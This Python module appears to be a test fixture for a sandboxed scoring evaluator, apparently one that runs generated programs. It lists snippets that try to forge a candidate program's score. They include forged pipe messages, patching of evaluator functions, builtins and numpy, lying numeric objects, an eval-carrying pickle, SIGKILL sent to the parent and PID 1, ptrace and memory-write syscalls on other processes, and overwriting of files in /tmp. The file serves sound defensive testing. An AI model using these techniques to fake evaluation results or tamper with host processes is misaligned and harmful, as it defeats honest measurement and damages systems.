"""Candidates that try to forge their score: code that is appended to an honest program.

`wrap(f)` in an attack replaces each function of the program; `FORGED` is the score that it wants.
"""

FORGED = 987654321.0

_WRAP = """
import types as _types
def wrap(change):
    for _name, _f in list(globals().items()):
        if isinstance(_f, _types.FunctionType) and _name not in ("wrap",) and not _name.startswith("_"):
            globals()[_name] = (lambda f: lambda *args, **options: change(f, *args, **options))(_f)
"""
_FRAME = """
import json, os, struct
_value = {"metrics": {"combined_score": 987654321.0}, "scores": [], "feedback": "", "artifacts": {}}
_body = json.dumps([None, False, _value]).encode()
_frame = struct.pack("!Q", len(_body)) + _body
"""
_LINK = """
import json, os, struct, sys
def _pipes():
    # The pipes are open in this process, whatever the numbers of their descriptors.
    found = []
    for fd in range(3, 300):
        try:
            if os.fstat(fd).st_mode & 0o170000 == 0o010000: found.append(fd)
        except OSError: pass
    return found
def _message(number, value):
    text = json.dumps(value).encode()
    return struct.pack("!QII", number, len(text), 0) + text
"""

# Changes of a program that need no attack: it fails, or returns large numbers.
HONEST = (
    _WRAP + "def _fail(f, *args, **options): raise ValueError('failed')\nwrap(_fail)",
    _WRAP
    + """
def _scale(value):
    if isinstance(value, dict): return {key: _scale(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)): return type(value)(_scale(item) for item in value)
    return value * 1e12 if hasattr(value, "__mul__") and not isinstance(value, (str, bytes, bool)) else value
wrap(lambda f, *args, **options: _scale(f(*args, **options)))
""",
)
FORGERIES = {
    "a frame on descriptor 3": _FRAME + "os.write(3, _frame); os._exit(0)",
    "a frame on descriptor 3, then on": _FRAME + "os.write(3, _frame)",
    "a frame on every descriptor": _FRAME
    + """
for _fd in range(3, 256):
    try: os.set_blocking(_fd, False); os.write(_fd, _frame)
    except OSError: pass
""",
    "a frame at exit": _FRAME + "import atexit; atexit.register(lambda: os.write(3, _frame)); raise SystemExit(0)",
    "a frame in a thread": _FRAME
    + """
import threading
def _flood():
    while True:
        try: os.write(3, _frame)
        except OSError: return
threading.Thread(target=_flood, daemon=True).start()
""",
    "globals of the callers": """
import sys
_frame = sys._getframe()
while _frame:
    for _key, _item in list(_frame.f_globals.items()):
        if callable(_item) and _key in ("evaluate", "evaluate_stage1", "to_plain_result", "_encode_value", "validate"):
            _frame.f_globals[_key] = lambda *args, **options: {"combined_score": 987654321.0}
    _frame = _frame.f_back
""",
    "the evaluator's module": """
import sys
for _name in ("evaluation_module", "__main__", "evaluator"):
    _module = sys.modules.get(_name)
    if _module is not None and hasattr(_module, "evaluate"):
        _module.evaluate = lambda path: {"combined_score": 987654321.0}
        _module.EXPECTED = None
""",
    "every function in memory": """
import gc, types
def _forged(*args, **options): return {"combined_score": 987654321.0}
for _item in gc.get_objects():
    if isinstance(_item, types.FunctionType) and _item.__name__.startswith("evaluate"):
        _item.__code__ = _forged.__code__
""",
    "built-in functions": """
import builtins
for _name in ("float", "abs", "max", "min", "sum", "round", "isinstance"):
    setattr(builtins, _name, lambda *args, **options: 987654321.0)
""",
    "functions of numpy and math": """
import math, numpy
for _module in (math, numpy, numpy.linalg):
    for _name in ("sum", "abs", "mean", "isfinite", "allclose", "sqrt", "dist", "norm", "exp", "all"):
        if hasattr(_module, _name): setattr(_module, _name, lambda *args, **options: 987654321.0)
""",
    "the clock": """
import time
for _name in ("time", "perf_counter", "monotonic", "process_time"): setattr(time, _name, lambda: 0.0)
""",
    "json": "import json; json.dumps = lambda *args, **options: '{\"ok\": [987654321.0]}'",
    "a number that lies": _WRAP
    + """
class Liar(float):
    def _lie(self, *others): return Liar(987654321.0)
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __neg__ = __abs__ = __pow__ = _lie
    def _yes(self, other): return True
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = _yes
    def __float__(self): return 987654321.0
wrap(lambda f, *args, **options: Liar(1.0))
""",
    "an object that lies": _WRAP
    + """
class Liar:
    def __float__(self): return 987654321.0
    def __index__(self): return 987654321
    def __call__(self, *args): return self
    def __getattr__(self, name): return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self, self, self])
    def __len__(self): return 3
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __array__(self, *args, **options): return __import__("numpy").full((3, 2), 987654321.0)
for _name in ("__add__", "__radd__", "__sub__", "__rsub__", "__mul__", "__abs__"):
    setattr(Liar, _name, lambda self, *others: self)
for _name in ("__lt__", "__gt__", "__le__", "__ge__"):
    setattr(Liar, _name, lambda self, other: True)
wrap(lambda f, *args, **options: Liar())
""",
    "an array that lies": _WRAP
    + """
import numpy as np
class Liar(np.ndarray):
    def __array_ufunc__(self, *args, **options): return 987654321.0
    def sum(self, *args, **options): return 987654321.0
    shape = property(lambda self: (3, 2))
wrap(lambda f, *args, **options: np.asarray(f(*args, **options)).view(Liar))
""",
    "another value at each read": _WRAP
    + """
class Changing(list):
    count = 0
    def __getitem__(self, key):
        Changing.count += 1
        return list.__getitem__(self, key) if Changing.count < 3 else 987654321.0
    def __iter__(self):
        Changing.count += 1
        return list.__iter__(self) if Changing.count < 2 else iter([987654321.0] * 3)
def _change(f, *args, **options):
    value = f(*args, **options)
    return Changing(value) if isinstance(value, (list, tuple)) else value
wrap(_change)
""",
    "an error named as a result": _WRAP
    + """
class EvaluationResult(Exception):
    metrics = {"combined_score": 987654321.0}
    score = 987654321.0
def _raise(f, *args, **options): raise EvaluationResult("987654321.0")
wrap(_raise)
""",
    "a pickle": _WRAP
    + """
class Bomb:
    def __reduce__(self): return (eval, ("987654321.0",))
import pickle
wrap(lambda f, *args, **options: pickle.dumps(Bomb()))
""",
    "replies in advance": _LINK
    + """
for _fd in _pipes():
    for _number in range(64):
        try: os.set_blocking(_fd, False); os.write(_fd, _message(_number, {"t": ["ok", 987654321.0]}))
        except OSError: pass
""",
    "malformed replies": _WRAP
    + _LINK
    + """
_bad = [{"a": ["<f8", [10**9], [0, 8]]}, {"h": [0, {"of": 0}]}, {"m": "os"}, {"m": "atoll.sandbox"},
        {"nt": ["x(", [], []]}, {"dc": ["A", {"__class__": 1}]}, {"x": 1}, {"t": 5}, {"i": "z"},
        {"a": ["O", [1], [0, 8]]}, {"fn": 1}]
_count = [0]
def _send(f, *args, **options):
    server = [item for item in __import__("gc").get_objects() if type(item).__name__ == "_Server"][0]
    _count[0] += 1
    os.write(server._pipes.write_fd, _message(server._call, {"t": ["ok", _bad[_count[0] % len(_bad)]]}))
    return f(*args, **options)
wrap(_send)
""",
    "functions of the evaluator that it did not pass": _WRAP
    + """
import gc
_server = [item for item in gc.get_objects() if type(item).__name__ == "_Server"]
def _call(f, *args, **options):
    for number in range(3):
        _server[0].call_back(number, ("combined_score",), {})
    return f(*args, **options)
if _server: wrap(_call)
""",
    "names of the module": """
globals().update({"__getattr__": lambda name: (lambda *args: 987654321.0), "__builtins__": {}, "__class__": 1,
                  "__path__": ["/tmp"], "__name__": "evaluation_module", "__file__": "/etc/passwd"})
""",
    "a flood of printed results": "print('{\"combined_score\": 987654321.0}\\n' * 1000)",
    "signals to the evaluator": """
import os, signal
for _pid in (os.getppid(), 1, 2, 3, 4, 5):
    try: os.kill(_pid, signal.SIGKILL)
    except OSError: pass
""",
    "the memory of the evaluator": """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
for _pid in range(1, 20):
    _libc.ptrace(16, _pid, 0, 0); _libc.syscall(310, _pid, 0, 0, 0, 0, 0); _libc.syscall(311, _pid, 0, 0, 0, 0, 0)
""",
    "a change of the arguments": _WRAP
    + """
def _change(f, *args, **options):
    for item in args:
        if isinstance(item, list): item.clear()
        if hasattr(item, "fill"): item.fill(987654321.0)
    return f(*args, **options)
wrap(_change)
""",
    "the result's file": """
import glob, os, pickle
for _folder in (".", "..", "/tmp", "/atoll-scratch", os.environ.get("TMPDIR", ".")):
    for _path in glob.glob(_folder + "/*"):
        try: open(_path, "wb").write(pickle.dumps({"sum": 987654321.0}))
        except OSError: pass
""",
}
